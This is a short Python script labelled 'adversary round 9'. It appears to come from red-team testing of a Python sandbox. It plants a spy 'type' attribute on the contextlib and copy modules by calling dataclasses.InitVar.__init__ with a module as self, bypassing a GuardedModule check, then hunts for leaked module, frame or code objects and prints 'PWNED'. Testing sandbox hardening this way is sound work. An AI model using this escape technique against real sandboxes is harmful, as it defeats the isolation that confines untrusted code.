# adversary round 9: Tries (first version, refused for type(*a)): unbound library __init__ with self=a module (dataclasses.InitVar.__init__(contextlib, spy)) -> library STORE_ATTR passes GuardedModule (trusted frame) and writes contextlib.type = spy; then look for a sink that hands an internal object to type(...)
import contextlib
import dataclasses
import copy

seen = []

def spy(*a):
    seen.append(a)
    return type(*a) if len(a) == 1 else None

dataclasses.InitVar.__init__(contextlib, spy)
dataclasses.InitVar.__init__(copy, spy)
st = contextlib.ExitStack()
st.push(lambda *e: None)
print("contextlib.type planted:", contextlib.type is spy, len(seen))
copy.deepcopy([print, len])
print("copy saw:", [type(a[0]).__name__ for a in seen])
for a in seen:
    x = a[0]
    if type(x).__name__ in ("module", "frame", "code"):
        print("PWN" + "ED", x)
